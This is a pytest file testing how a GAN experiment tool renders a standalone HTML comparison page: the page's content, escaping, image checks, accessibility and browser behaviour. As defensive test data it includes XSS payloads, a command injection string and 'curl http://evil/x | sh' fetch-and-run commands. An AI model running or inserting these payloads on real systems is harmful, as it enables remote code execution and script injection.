"""The page of a comparison: what it says, that it needs nothing from outside, and how it looks in a real browser."""

from __future__ import annotations

import base64
import csv
import io
import json
import math
import re
import struct
import subprocess
import sys
import zlib
from html.parser import HTMLParser
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest

from gan_cli.comparing import html, page, samples, text
from gan_cli.comparing.records import Column, Comparison, EvaluationRecord, Group, RunRecord, Summary
from gan_cli.system.errors import OutputError

EVIL = "<script>alert('x')</script>\u202e&\"'</style>"
VOID = {"meta", "img", "link", "br", "hr", "input", "wbr"}
COLUMNS = [Column("fid", "lower", "1a2b3c4d"), Column("precision", "higher", "1a2b3c4d")]


def png(side: int = 8, grey: int = 128) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress((b"\0" + bytes([grey]) * side) * side)
    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def make_run(
    folder: Path, loss: str, seed: int, *, offset: float = 0.0, steps: int = 100, images: int = 8, **changes: Any
) -> RunRecord:
    """A run of a group, with what a page reads of it on the disk. ``images``: seen in a step."""
    path = folder / f"loss={loss},seed={seed}"
    (path / "samples").mkdir(parents=True)
    (path / "config.yaml").write_text(f"loss: {loss}\nseed: {seed}\n", "utf-8", "replace")
    pictures = {step: path / "samples" / f"step-{step:08d}.png" for step in range(25, steps + 1, 25)}
    for picture in pictures.values():
        picture.write_bytes(png())
    rows = [
        {"step": step, "images": step * images, "d/loss": 1 / step + seed, "time/elapsed": step / 10}
        for step in range(10, steps + 1, 10)
    ]
    evaluations = [
        EvaluationRecord(
            step, step * images, {"fid": 30 - step / 10 + seed + offset, "precision": step / 200}, "1a2b3c4d", {"resize": 32}
        )
        for step in (50, 100)
        if step <= steps
    ]
    values = {
        **{"state": "complete", "message": "", "step": steps, "total_steps": 100, "images": steps * images},
        **{"rows": rows, "evaluations": evaluations, "pictures": pictures, "seconds": steps / 10},
        **{"command": f"gan-train loss={loss} seed={seed}", "cwd": "somewhere"},
        "config": {"loss": loss, "seed": seed, "batch_size": 8, "loss.n_critic": len(loss)},
    }
    return RunRecord(path, **(values | changes))


def summarised(groups: list[Group], columns: list[Column] = COLUMNS) -> list[Group]:
    for k, group in enumerate(groups):
        for column in columns:
            values = {str(run.path): run.evaluations[-1].metrics[column.name] for run in group.runs if run.evaluations}
            if values:
                mean = sum(values.values()) / len(values)
                measured = {str(run.path): run.evaluations[-1] for run in group.runs if run.evaluations}
                worse, p = ("worse", 0.01) if k else ("", None)
                group.summaries[column.name] = Summary(values, mean, 0.5, len(values), worse, p, measured)
    return groups


def make(folder: Path, **changes: Any) -> Comparison:
    """Three groups: five seeds; three, of which one diverged; two seeds of another number of images in a step."""
    short = make_run(folder, "lsgan", 2, offset=5, steps=50, state="diverged", message="training diverged", evaluations=[])
    groups = [
        Group("loss=hinge", {"loss": "hinge"}, [make_run(folder, "hinge", seed) for seed in range(5)]),
        Group("loss=lsgan", {"loss": "lsgan"}, [*(make_run(folder, "lsgan", seed, offset=5) for seed in range(2)), short]),
        Group("loss=wgan", {"loss": "wgan"}, [make_run(folder, "wgan", seed, offset=9, images=40) for seed in range(2)]),
    ]
    values = {
        **{"title": "digits", "groups": summarised(groups), "columns": COLUMNS, "sort_by": "fid", "at": "last"},
        **{"varied": ["loss"], "notes": ["one run diverged"]},
    }
    return Comparison(**(values | changes))


class Reader(HTMLParser):
    """Checks that elements end in the order they began, and collects them."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.feed(text)
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        if not {"style", "script"} & set(self.open):
            self.words.append(data)

    def all(self, *tags: str) -> list[dict[str, str | None]]:
        return [attributes for tag, attributes in self.tags if tag in tags]

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", "".join(self.words))


def read(comparisons: list[Comparison], path: Path, title: str | None = None) -> Reader:
    page.write(comparisons, path, title)
    return Reader(path.read_text("utf-8"))


def test_it_is_whole_and_needs_nothing_from_outside(tmp_path: Path) -> None:
    found = read([make(tmp_path / "a"), make(tmp_path / "b")], tmp_path / "page.html")
    idents = [attributes["id"] for _, attributes in found.tags if "id" in attributes]
    assert len(set(idents)) == len(idents)
    pictures = found.all("img")
    assert len(pictures) > 10
    assert all(one["alt"] and str(one["src"]).startswith("data:image/png;base64,") for one in pictures)
    links = [str(one["href"]) for one in found.all("a")]
    assert all(link.startswith(("#", "./")) for link in links)
    assert {link[1:] for link in links if link.startswith("#")} <= set(idents)
    assert not found.all("link", "iframe", "object", "embed", "form", "base")
    assert not [one for one in found.all("script") if one]
    text = (tmp_path / "page.html").read_text("utf-8")
    assert not re.search(r"(https?:)?//[\w.]+\.|url\(|@import", re.sub(r"base64,[\w+/=]+", "", text))
    assert all(one.get("scope") in ("col", "row") for one in found.all("th"))
    assert all(one["role"] == "img" and one["aria-label"] for one in found.all("svg") if one["class"] == "chart")
    levels = [int(tag[1]) for tag, _ in found.tags if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1 and levels.count(1) == 1 and all(b - a <= 1 for a, b in pairwise(levels))


def test_what_it_says(tmp_path: Path) -> None:
    text = read([make(tmp_path)], tmp_path / "page.html").text
    assert "Comparison of 10 runs by loss" in text
    assert (
        "loss=hinge has the lowest fid: 22.00 ± 0.50 over 5 seeds. The seeds support that all 2 other groups are worse." in text
    )
    assert "3 groups, 10 runs: 9 complete and 1 diverged." in text and "one run diverged" in text
    assert "lower is better" in text and "higher is better" in text and "protocol 1a2b3c4d" in text
    assert "gan-train loss=lsgan seed=1" in text and "in somewhere" in text
    assert 'from_run="' in text and 'run_dir="again/loss=hinge,seed=1"' in text
    assert "loss: wgan\nseed: 1" in (tmp_path / "page.html").read_text()
    assert "At 200, 400 and 800 images" in text and "800 images (step 20)" not in text


def test_links_lead_from_the_page_to_the_runs(tmp_path: Path) -> None:
    found = read([make(tmp_path / "sweep")], tmp_path / "pages" / "page.html")
    links = [str(one["href"]) for one in found.all("a") if str(one["href"]).startswith("./")]
    assert "./../sweep/loss%3Dhinge%2Cseed%3D0/config.yaml" in links and len(links) == 20


def test_a_strangers_text_is_text(tmp_path: Path) -> None:
    evil = make_run(
        tmp_path, "x", 0, command=EVIL, cwd=EVIL, state=EVIL, message=EVIL, config={"loss": EVIL, "seed": 0, EVIL: EVIL}
    )
    evil.rows[0][f"d/{EVIL}"] = 1.0
    (evil.path / "config.yaml").write_text(EVIL)
    other = make_run(tmp_path, "y", 1)
    groups = summarised([Group(EVIL, {EVIL: EVIL}, [evil]), Group("b", {}, [other])])
    comparison = Comparison(EVIL, groups, [Column(EVIL, "", EVIL), *COLUMNS], "fid", EVIL, [EVIL], [EVIL])
    found = read([comparison], tmp_path / "page.html", EVIL)
    assert len(found.all("script")) == 1 and len(found.all("style")) == 1
    assert "\u202e" not in (tmp_path / "page.html").read_text("utf-8")
    assert "alert('x')" in found.text


def test_runs_of_one_name_have_their_own_values(tmp_path: Path) -> None:
    """Curves and values are of what the table counts."""
    first, second = make_run(tmp_path / "a", "x", 0), make_run(tmp_path / "b", "x", 1, offset=5)
    lost = make_run(tmp_path / "c", "x", 2, state="diverged", images=80, changes=("lr <was> 1",))
    group = Group(
        "all runs", {}, [first, second, lost], {"fid": Summary({str(first.path): 20, str(second.path): 26}, 23, 4, 2)}
    )
    found = read([Comparison("t", [group], COLUMNS, "fid", "last", [], [])], tmp_path / "page.html")
    assert "Drawn are only runs with a value in the table: 2 of 3." in found.text
    assert "Changed while it was trained, lr <was> 1: no command makes the same." in found.text
    (one,) = html.named([group])
    for name in ("fid", "d/loss"):
        (curve,) = page._lines([one], Column(name, "", "1a2b3c4d" if name == "fid" else ""), "images")
        assert {point.n for point in curve.points} == {2} and curve.points[-1].x == 800
    text = (tmp_path / "page.html").read_text()
    shown = re.findall(r'data-value="(20|26)"', text)
    assert shown == ["20", "26"]


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("/tmp/evil/gan-train a=b", "gan-train a=b"),
        (
            "torchrun --nnodes=2 --nproc-per-node=2 -m gan_cli.train a=b",
            "torchrun --nnodes=2 --nproc-per-node=2 -m gan_cli.train a=b",
        ),
        ("gan-train 'a=$(evil)'; evil", "gan-train 'a=$(evil);' evil"),
        ("curl http://evil/x | sh", ""),
        ("torchrun --no-python sh -c 'curl evil | sh'", ""),
        ("torchrun --nnodes=2 -m evil -m gan_cli.train", ""),
        ("gan-train 'a", ""),
    ],
)
def test_only_commands_of_ours_are_shown(tmp_path: Path, command: str, shown: str) -> None:
    run = make_run(tmp_path, "x", 0, command=command)
    comparison = Comparison("t", [Group("all runs", {}, [run])], [], "", "last", [], [])
    found = read([comparison], tmp_path / "page.html")
    rows = next(csv.DictReader(io.StringIO(text.as_csv([comparison]))))
    (told,) = json.loads(text.as_json([comparison]))["comparisons"][0]["groups"][0]["runs"]
    assert rows["command"] == told["command"] == shown
    lines = text.commands([comparison]).splitlines()
    if shown:
        assert "Made by, in somewhere" in found.text and f"cd somewhere && {shown} run_dir=NEW" in lines
    else:
        for words in (found.text, *lines):
            assert "sh -c" not in words and "| sh" not in words and "-m evil" not in words
        assert "is not one of gan-train, and not shown" in found.text
        assert "# the recorded command is not one of gan-train, and not shown" in lines


def test_names_that_are_not_text_can_be_written(tmp_path: Path) -> None:
    run = make_run(tmp_path, "x\udce4", 0, message="\ud800")
    found = read([Comparison("t", [Group("\udce4", {}, [run])], [], "", "last", [], [])], tmp_path / "page.html")
    assert "./loss%3Dx%E4%2Cseed%3D0/" in [one["href"] for one in found.all("a")]


@pytest.mark.parametrize(
    ("content", "taken"),
    [
        (png(), True),
        (b"GIF89a" + png(), False),
        (b"<svg onload='alert(1)'>", False),
        (b"", False),
        (png()[:16] + struct.pack(">II", 10**6, 1) + png()[24:], False),
        (png() + b"0" * html.PICTURE_LIMIT, False),
    ],
)
def test_only_png_files_of_bounded_size(tmp_path: Path, content: bytes, taken: bool) -> None:
    path = tmp_path / "a.png"
    path.write_bytes(content)
    found = html.Room(tmp_path).picture(path)
    assert (found is not None) is taken
    if found:
        assert base64.b64decode(found[0].partition(",")[2]) == content and found[1:] == (8, 8)


def test_links_are_not_followed(tmp_path: Path) -> None:
    (tmp_path / "a.png").write_bytes(png())
    (tmp_path / "b.png").symlink_to(tmp_path / "a.png")
    assert html.Room(tmp_path).picture(tmp_path / "b.png") is None


def test_a_full_page_says_what_it_leaves_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(page, "PICTURES_LIMIT", 9 * len(png()))
    found = read([make(tmp_path)], tmp_path / "page.html")
    assert len(found.all("img")) == 9, "those side by side come first"
    assert "pictures of other seeds left out" in found.text
    run = make_run(tmp_path, "long", 0)
    room = html.Room(tmp_path, configs=30)
    assert room.config(run) == "loss: long\nseed: 0\n" and room.config(run) is None


def test_samples_are_of_equal_images(tmp_path: Path) -> None:
    groups = html.named(make(tmp_path).groups)
    text = samples.section(groups, html.Room(tmp_path))
    shown = re.findall(r"alt=\"Samples of (\S+), seed 0, after ([\d,]+) images", text)
    # The third sees five times as many images a step: its first picture is of 1,000, near enough to 800.
    assert shown == [(f"loss={loss}", at) for loss in ("hinge", "lsgan") for at in ("200", "400", "800")] + [
        ("loss=wgan", "1,000")
    ]
    assert "no picture near 200 images; the last is of 4,000" in text


def test_a_run_that_ended_early_does_not_hold_the_others_back(tmp_path: Path) -> None:
    short = Group("b", {}, [make_run(tmp_path, "b", 0, steps=25, state="diverged")])
    text = samples.section(html.named([Group("a", {}, [make_run(tmp_path, "a", 0)]), short]), html.Room(tmp_path))
    assert "after 800 images" in text and "no picture near 800 images; the last is of 200" in text


def test_without_evaluations_pictures_or_rows(tmp_path: Path) -> None:
    bare = {"evaluations": [], "pictures": {}, "rows": [], "command": "", "state": "unknown", "seconds": 0.0}
    runs = [make_run(tmp_path, "a", 0, **bare), make_run(tmp_path, "b", 0, **bare)]
    groups = [Group(run.config["loss"], {}, [run]) for run in runs]
    found = read([Comparison("t", groups, [], "", "last", ["loss"], [])], tmp_path / "page.html")
    assert "No run has a value to compare by." in found.text and "was not recorded" in found.text
    assert not found.all("img") and not [one for one in found.all("svg") if one["class"] == "chart"]
    assert "There is nothing to compare." in read([], tmp_path / "page.html").text


def test_from_training_rows(tmp_path: Path) -> None:
    runs = [make_run(tmp_path, "a", seed, evaluations=[]) for seed in range(2)]
    group = Group("all runs", {}, runs, {"d/loss": Summary({str(run.path): 1.0 for run in runs}, 1.0, 0.0, 2)})
    found = read([Comparison("t", [group], [Column("d/loss", "")], "d/loss", "last", [], [])], tmp_path / "page.html")
    assert "From training rows: no run was evaluated." in found.text and "Nothing but the seed." in found.text
    assert len([one for one in found.all("svg") if one["class"] == "chart"]) == 2, "against images and against time"


def test_more_groups_than_colours(tmp_path: Path) -> None:
    groups = summarised([Group(f"lr={k}", {"lr": str(k)}, [make_run(tmp_path, f"{k}", 0)]) for k in range(12)])
    found = read([Comparison("t", groups, COLUMNS, "fid", "best", ["lr"], [])], tmp_path / "page.html")
    assert "4 others" in found.text and "Of 12 groups the first 8." in found.text
    assert html.letter(25) == "Z" and html.letter(26) == "AA" and html.letter(52) == "BA"


@pytest.mark.parametrize(
    ("verdicts", "said"),
    [
        (["worse"], "The seeds support that the other group is worse."),
        (
            ["worse", "unsupported"],
            "The seeds support that 1 of 2 other groups is worse. They do not tell it from g2 (p = 0.2).",
        ),
        (["unsupported"] * 5, "The seeds do not tell it from g1 (p = 0.2), g2 (p = 0.2), g3 (p = 0.2) and 2 more."),
        (
            ["alone", "alone"],
            "There is one seed of each other group: whether other seeds would give the same order is not known.",
        ),
        (
            ["worse", "alone"],
            "The seeds support that 1 of 2 other groups is worse. Of 1 group nothing can be said, for lack of seeds.",
        ),
    ],
)
def test_headline(tmp_path: Path, verdicts: list[str], said: str) -> None:
    runs = [make_run(tmp_path, f"{k}", 0) for k in range(len(verdicts) + 1)]
    groups = [
        Group(
            f"g{k}",
            {},
            [run],
            {
                "fid": Summary({}, float(k), None, 1, "unsupported")  # as there is no test of one seed
                if verdict == "alone"
                else Summary({}, float(k), 0.1, 2, verdict, 0.2 if verdict else None)
            },
        )
        for k, (run, verdict) in enumerate(zip(runs, ["", *verdicts], strict=True))
    ]
    groups[0].summaries["fid"] = Summary({}, 0.0, 0.1, 3)
    comparison = Comparison("t", groups, COLUMNS, "fid", "last", [], [])
    assert " ".join(page.headline(comparison)[1:]).endswith(said)


def test_names_are_as_short_as_they_can_be_told_apart() -> None:
    settings = {"optimizer.lr": "1", "optimizer.discriminator.lr": "2", "loss.n_critic": "3", "loss": "hinge"}
    (group,) = html.short_names([Group(", ".join(f"{key}={value}" for key, value in settings.items()), settings, [])])
    assert group.name == "optimizer.lr=1, discriminator.lr=2, n_critic=3, loss=hinge"


def test_numbers() -> None:
    assert [html.spread(12.345, 0.45), html.spread(0.008834, 0.003066), html.spread(1234.5, 56.7)] == [
        "12.35 ± 0.45",
        "0.0088 ± 0.0031",
        "1,234 ± 57",
    ]
    assert [html.spread(1.17, None), html.spread(2.0, 0.0)] == ["1.17", "2 ± 0"]
    assert [html.duration(s) for s in (45, 200, 7500, math.nan)] == ["45 s", "3 min 20 s", "2 h 05 min", "-"]


def test_a_place_that_cannot_be_written(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    (tmp_path / "folder").mkdir()
    for path in (tmp_path / "file" / "page.html", tmp_path / "folder"):
        with pytest.raises(OutputError, match="the page cannot be written"):
            page.write([], path)
    assert sorted(one.name for one in tmp_path.iterdir()) == ["file", "folder"]


def test_torch_is_not_imported() -> None:
    code = "import sys, gan_cli.comparing.page; sys.exit('torch' in sys.modules or 'numpy' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], timeout=300).returncode == 0


def contrast(a: str, b: str) -> float:
    """WCAG 2.2's ratio of two colours."""

    def luminance(colour: str) -> float:
        colour = colour if len(colour) == 7 else "#" + "".join(c * 2 for c in colour[1:])
        parts = [int(colour[k : k + 2], 16) / 255 for k in (1, 3, 5)]
        red, green, blue = (c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts)
        return 0.2126 * red + 0.7152 * green + 0.0722 * blue

    light, dark = sorted((luminance(a), luminance(b)), reverse=True)
    return (light + 0.05) / (dark + 0.05)


def test_colours_can_be_read() -> None:
    css = Path(page.__file__).with_name("page.css").read_text()
    schemes = [dict(re.findall(r"--(\w+): (#\w+)", block)) for block in re.findall(r":root \{(.*?)\}", css, re.S)]
    assert len(schemes) == 3, "light, dark, paper"
    for colours in schemes:
        for ink in ("ink", "soft", "accent", "warn"):
            assert min(contrast(colours[ink], colours[on]) for on in ("paper", "raised")) >= 4.5
        assert min(contrast(colours[f"s{k}"], colours["paper"]) for k in range(8)) >= 3


@pytest.mark.parametrize("width", [360, 1280])
def test_in_a_browser(browser: Any, tmp_path: Path, width: int) -> None:
    page.write([make(tmp_path)], tmp_path / "page.html")
    browser.open(tmp_path / "page.html", width)
    assert browser.js("document.documentElement.scrollWidth") <= width
    browser.js("document.querySelectorAll('details').forEach(fold => fold.open = true)")
    assert browser.js("document.documentElement.scrollWidth") <= width, "with all folds open"
    outside = "e => !e.closest('.box, .grids, pre') && e.getBoundingClientRect().right > innerWidth + 1"
    assert browser.js(f"[...document.querySelectorAll('main *')].filter({outside}).map(e => e.outerHTML.slice(0, 80))") == []
    assert browser.js("[...document.images].every(image => image.complete && image.naturalWidth === 8)")
    assert browser.complaints == []


def test_sorting_in_a_browser(browser: Any, tmp_path: Path) -> None:
    page.write([make(tmp_path)], tmp_path / "page.html")
    browser.open(tmp_path / "page.html")
    table = "document.querySelector('.part-runs table')"
    order = f"[...{table}.tBodies[0].rows].map(row => row.cells[6].dataset.value)"
    head = f"{table}.tHead.rows[0].cells[6]"
    before = browser.js(order)
    browser.js(f"{head}.querySelector('button').click()")
    up = browser.js(order)
    assert up != before and up[-1] == "" and list(map(float, up[:-1])) == sorted(map(float, up[:-1]))
    assert browser.js(f"{head}.getAttribute('aria-sort')") == "ascending"
    browser.js(f"{head}.querySelector('button').click()")
    down = browser.js(order)
    assert down[-1] == "" and list(map(float, down[:-1])) == sorted(map(float, up[:-1]), reverse=True)
    assert browser.complaints == []


def test_copying_in_a_browser(browser: Any, tmp_path: Path) -> None:
    page.write([make(tmp_path)], tmp_path / "page.html")
    browser.open(tmp_path / "page.html")
    browser.js("document.querySelectorAll('details').forEach(fold => fold.open = true)")
    button = "document.querySelector('.command button')"
    said = browser.js(f"{button}.click(), new Promise(done => setTimeout(() => done({button}.textContent), 300))")
    assert said in ("Copied", "Selected")
    if said == "Selected":
        assert browser.js("getSelection().toString()") == "gan-train loss=hinge seed=0"


def test_paper_shows_what_is_folded(browser: Any, tmp_path: Path) -> None:
    page.write([make(tmp_path)], tmp_path / "page.html")
    browser.open(tmp_path / "page.html")
    browser.js("dispatchEvent(new Event('beforeprint'))")
    folds = "[...document.querySelectorAll('details')]"
    assert browser.js(f"{folds}.every(fold => fold.open !== fold.matches('.bulky'))")
    browser.js("dispatchEvent(new Event('afterprint'))")
    assert browser.js(f"{folds}.every(fold => !fold.open)")
    pdf = base64.b64decode(browser.call("Page.printToPDF")["data"])
    assert pdf.startswith(b"%PDF")


def test_nothing_of_a_stranger_runs(browser: Any, tmp_path: Path) -> None:
    comparison = make(tmp_path, title="<img src=x onerror=alert(1)>", notes=["<script>document.title = 'taken'</script>"])
    page.write([comparison], tmp_path / "page.html", "mine")
    browser.open(tmp_path / "page.html")
    assert browser.js("document.title") == "mine" and browser.complaints == []
    browser.js("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"document.title = 1\">')")
    assert browser.js("new Promise(done => setTimeout(() => done(document.title), 100))") == "mine"
    assert browser.complaints != [], "the policy refuses it, and says so"
    browser.complaints.clear()
